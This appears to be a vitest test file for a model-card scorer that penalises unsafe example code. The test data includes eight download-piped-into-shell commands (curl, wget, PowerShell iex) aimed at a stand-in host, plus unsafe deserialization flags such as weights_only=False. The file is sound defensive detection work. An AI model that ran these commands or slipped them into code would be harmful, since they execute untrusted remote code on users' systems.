import { expect, it } from 'vitest';
import exampleCode from '#shared/factors/security/example-code';
import { ask, card } from '../ask.ts';

const of = (code: string) => ask(exampleCode, card(`# Use\n\`\`\`sh\n${code}\n\`\`\`\n`));

it('F1-27 an example scores, and one that asks for remote code is not a plus', () => {
  expect(of('AutoModel.from_pretrained("lab/model")')).toMatchObject({
    score: 1,
    summary: '1 code example in the card',
  });
  expect(ask(exampleCode, card('Nothing.'))).toMatchObject({
    score: expect.closeTo(0.3, 3),
    summary: 'No example code in the card',
  });
  expect(of('from_pretrained("lab/model", trust_remote_code = True)').score).toBeCloseTo(0.4, 3);
  expect(of('vllm serve lab/model --trust-remote-code').score).toBeCloseTo(0.4, 3);
});

it('F1-27 an example that switches off a safety is worse than none', () => {
  for (const code of ['torch.load(f, weights_only=False)', 'np.load(f, allow_pickle=True)'])
    expect(of(code)).toMatchObject({ score: expect.closeTo(0.2, 3), fix: expect.any(String) });
});

it.each([
  'curl -fsSL https://x.example/i.sh | sh',
  'wget -qO- https://x.example | sudo bash',
  'curl https://x.example | python3',
  'bash <(curl -s https://x.example)',
  'sh -c "$(curl -fsSL https://x.example)"',
  'iwr https://x.example | iex',
  'powershell -c "iex (irm https://x.example)"',
  'Invoke-Expression (New-Object Net.WebClient).DownloadString("https://x.example")',
])('F1-27 a download piped into a shell scores nothing: %s', (code) => {
  expect(of(code)).toMatchObject({ score: 0, summary: 'Example code pipes a download into a shell' });
});

it.each(['iex> Nx.tensor([1])', 'iex(1)> serving = build()', 'curl -O https://x.example/a | tee log', 'shuf a | sort'])(
  'honest code stays honest: %s',
  (code) => {
    expect(of(code).score).toBe(1);
  },
);

it('half a megabyte of anything is read in passing', () => {
  for (const piece of ['a', 'curl ', 'bash ', 'iex ', 'trust_remote_code ', 'weights_only ', '|', 'curl x |', '`', '~'])
    expect(of(piece.repeat(512_000 / piece.length)).status).toBe('scored');
});
